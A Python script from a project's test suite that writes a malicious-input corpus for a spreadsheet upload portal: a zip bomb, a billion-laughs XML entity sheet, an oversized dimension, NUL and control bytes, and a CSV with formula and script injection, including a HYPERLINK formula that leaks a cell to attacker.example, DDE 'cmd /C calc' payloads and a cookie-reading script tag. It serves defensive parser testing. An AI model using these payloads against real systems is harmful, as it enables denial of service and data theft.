"""Write the spreadsheet files of the malicious-input corpus into this folder.

    python tests/malicious/make_spreadsheets.py

The files are committed (each well under 200 KB) so that the tests read real files; this
script says how each was made and writes the same bytes again. Every workbook is built by
hand as a zip archive (not with openpyxl), since openpyxl refuses to write most of them.

- ``zip_bomb.xlsx``: a sheet of about 150 MB of XML (one cell of 150 MB), compressed a
  thousand times, whose ``<dimension>`` claims a single cell.
- ``huge_dimension.xlsx``: two real rows, but a sheet declaring ``A1:XFD1048576``.
- ``billion_laughs.xlsx``: a sheet whose XML defines nested entities ("billion laughs") that
  expand to gigabytes.
- ``rows_100000.xlsx``: 100,000 rows (of shared strings) and no ``<dimension>``, compressed
  about as much as a real list.
- ``nul_bytes.csv``: a CSV with NUL bytes in it.
- ``control_characters.csv``: valid UTF-8 full of control characters, as binary files are.
- ``formula_and_script.csv``: names that spreadsheets run as formulas (``=HYPERLINK``, ``+``,
  ``@SUM``) and a ``<script>`` element in an institution name.
- ``gb18030.csv``: Chinese names in GB 18030, an encoding the portal refuses rather than guesses.
"""

import random
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
    "</workbook>"
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
SHEET_OPEN = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
HEADER_ROW = (
    '<row r="1">'
    + "".join(
        f'<c r="{col}1" t="inlineStr"><is><t>{text}</t></is></c>'
        for col, text in zip("ABCD", ["name", "email", "institution", "country"], strict=True)
    )
    + "</row>"
)


def cell(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def member(name: str) -> zipfile.ZipInfo:
    """Return a member with a fixed date, so that the script writes the same bytes every time."""
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    # The level is a private attribute before Python 3.13 (``compress_level`` since).
    setattr(info, "compress_level" if hasattr(zipfile.ZipInfo, "compress_level") else "_compresslevel", 9)
    return info


def workbook(path: Path, sheet_chunks, shared_strings: list[str] | None = None) -> None:
    """Write a minimal workbook whose first sheet's XML is the concatenation of ``sheet_chunks``."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        content_types, workbook_rels = CONTENT_TYPES, WORKBOOK_RELS
        if shared_strings is not None:
            content_types = content_types.replace(
                "</Types>",
                '<Override PartName="/xl/sharedStrings.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
                "</Types>",
            )
            workbook_rels = workbook_rels.replace(
                "</Relationships>",
                '<Relationship Id="rId2" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
                'Target="sharedStrings.xml"/></Relationships>',
            )
            archive.writestr(
                member("xl/sharedStrings.xml"),
                '<?xml version="1.0" encoding="UTF-8"?>\n'
                '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                + "".join(f"<si><t>{text}</t></si>" for text in shared_strings)
                + "</sst>",
            )
        archive.writestr(member("[Content_Types].xml"), content_types)
        archive.writestr(member("_rels/.rels"), ROOT_RELS)
        archive.writestr(member("xl/workbook.xml"), WORKBOOK)
        archive.writestr(member("xl/_rels/workbook.xml.rels"), workbook_rels)
        # The member's size is not known in advance: allow ZIP64 for the bomb.
        with archive.open(member("xl/worksheets/sheet1.xml"), "w", force_zip64=True) as sheet:
            for chunk in sheet_chunks:
                sheet.write(chunk.encode())


def zip_bomb() -> None:
    block = "A" * (1024 * 1024)

    def chunks():
        yield '<?xml version="1.0" encoding="UTF-8"?>\n' + SHEET_OPEN + '<dimension ref="A1"/><sheetData>' + HEADER_ROW
        # One cell of 150 MB: the parser would hold all of it (and more) in memory.
        yield '<row r="2"><c r="A2" t="inlineStr"><is><t>'
        for _ in range(150):
            yield block
        yield "</t></is></c></row></sheetData></worksheet>"

    workbook(HERE / "zip_bomb.xlsx", chunks())


def huge_dimension() -> None:
    workbook(
        HERE / "huge_dimension.xlsx",
        [
            '<?xml version="1.0" encoding="UTF-8"?>\n',
            SHEET_OPEN,
            '<dimension ref="A1:XFD1048576"/><sheetData>',
            HEADER_ROW,
            '<row r="2">' + cell("Dara") + cell("dara@example.org") + cell("Dimension College") + cell("KH") + "</row>",
            "</sheetData></worksheet>",
        ],
    )


def billion_laughs() -> None:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    ]
    workbook(
        HERE / "billion_laughs.xlsx",
        [
            '<?xml version="1.0" encoding="UTF-8"?>\n',
            "<!DOCTYPE worksheet [" + "".join(entities) + "]>",
            SHEET_OPEN,
            "<sheetData>",
            HEADER_ROW,
            '<row r="2">'
            + cell("&lol9;")
            + cell("laughs@example.org")
            + cell("Laughs College")
            + cell("KH")
            + "</row>",
            "</sheetData></worksheet>",
        ],
    )


def rows_100000() -> None:
    rng = random.Random(100_000)  # nosec B311 -- a fixed seed for the same file every time, not for secrecy
    names = [f"Participant {number}" for number in range(200)]
    countries = ["KH", "CN", "TH", "VN", "LA", "MY", "ID", "PH"]

    def chunks():
        yield '<?xml version="1.0" encoding="UTF-8"?>\n' + SHEET_OPEN + "<sheetData>" + HEADER_ROW
        for _ in range(100_000):
            # Names drawn at random keep the compression ratio that of a real list.
            yield f'<row><c t="s"><v>{rng.randrange(200)}</v></c></row>'
        yield "</sheetData></worksheet>"

    workbook(HERE / "rows_100000.xlsx", chunks(), shared_strings=names + countries)


def csv_files() -> None:
    header = "name,email,institution,country\n"
    (HERE / "nul_bytes.csv").write_bytes(
        (header + "Sok Dara,dara@example.org,Null College,KH\n").encode() + b"Chan\x00\x00,chan@example.org,\x00,KH\n"
    )
    (HERE / "control_characters.csv").write_bytes(
        (header + "Sok Dara,dara@example.org,Control College,KH\n").encode()
        + bytes(range(1, 9))
        + b",x@example.org,\x1b[2J\x7f,KH\n"
    )
    (HERE / "formula_and_script.csv").write_text(
        header
        + '"=HYPERLINK(""https://attacker.example/?leak=""&B2,""Details"")",eve@example.org,'
        + "<script>alert(document.cookie)</script> College,KH\n"
        + "+cmd|' /C calc'!A0,mallory@example.org,Formula College,KH\n"
        + "@SUM(1+1)*cmd|' /C calc'!A0,trent@example.org,Formula College,KH\n",
        encoding="utf-8",
    )
    (HERE / "gb18030.csv").write_bytes(
        (header + "王小明,wang@example.org,深圳职业技术大学,CN\n李华,lihua@example.org,柳州职业技术学院,CN\n").encode(
            "gb18030"
        )
    )


if __name__ == "__main__":
    zip_bomb()
    huge_dimension()
    billion_laughs()
    rows_100000()
    csv_files()
    for path in sorted(HERE.iterdir()):
        if path.suffix in (".xlsx", ".csv"):
            print(f"{path.name:28} {path.stat().st_size:>8} bytes")
